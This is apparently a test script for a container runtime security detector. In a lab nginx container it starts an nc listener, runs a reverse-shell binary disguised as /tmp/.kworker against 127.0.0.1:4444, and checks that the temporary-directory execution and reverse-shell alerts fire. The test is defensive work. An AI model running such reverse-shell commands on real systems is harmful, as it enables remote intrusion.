#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# t98-reverse-shell-tmp: in an exploited nginx container, the attacker drops a binary in /tmp and runs
# it; it connects back and hands a shell its socket as stdin/stdout: "Execution from Temporary
# Directory in Container" (/tmp/.kworker) and "Reverse Shell" (stdin and stdout socket), besides the
# shells spawned. A shell reading a pipe is no reverse shell.
# shellcheck disable=SC2016 # jq programs name $vars
# shellcheck source=tests/vm/lib.sh
. "${SAKER_TESTS:-/saker/tests}/lib.sh"
# shellcheck source=tests/vm/scenario.sh
. "${SAKER_TESTS:-/saker/tests}/scenario.sh"

scn_init
make_k8s_container web docker.io/library/nginx:1.25 web-0 shop
id=$(container_id web | cut -c1-12)

printf 'id\nexit\n' | nsenter -t "$(container_pid web)" -n nc -l -p 4444 >nc.out 2>&1 &
lpid=$!
on_exit "kill $lpid 2>/dev/null"
scenario_begin
rce web 'cp /saker/bin/revshell /tmp/.kworker && /tmp/.kworker 127.0.0.1 4444; rm -f /tmp/.kworker'
wait_exit "$lpid" 10 || fail "the listener did not end"
grep -q 'uid=0' nc.out || fail "the reverse shell did not answer: $(cat nc.out)"
expect_alert "Execution from Temporary Directory in Container" '.output_fields["proc.exepath"] == "/tmp/.kworker"
	and .output_fields["container.id"] == $c' --arg c "$id"
expect_alert "Reverse Shell" '.output_fields["proc.name"] == "sh" and .output_fields["proc.stdin.type"] == "socket"
	and .output_fields["proc.stdout.type"] == "socket" and .output_fields["container.id"] == $c
	and .priority == "Critical"' --arg c "$id"
expect_only "Shell Spawned in Container" "Execution from Temporary Directory in Container" "Reverse Shell"

scenario_begin
echo 'ls / >/dev/null' | kubectl_exec web sh >/dev/null || fail "kubectl exec sh <pipe"
expect_no_alert "Reverse Shell"

stop_sakerd
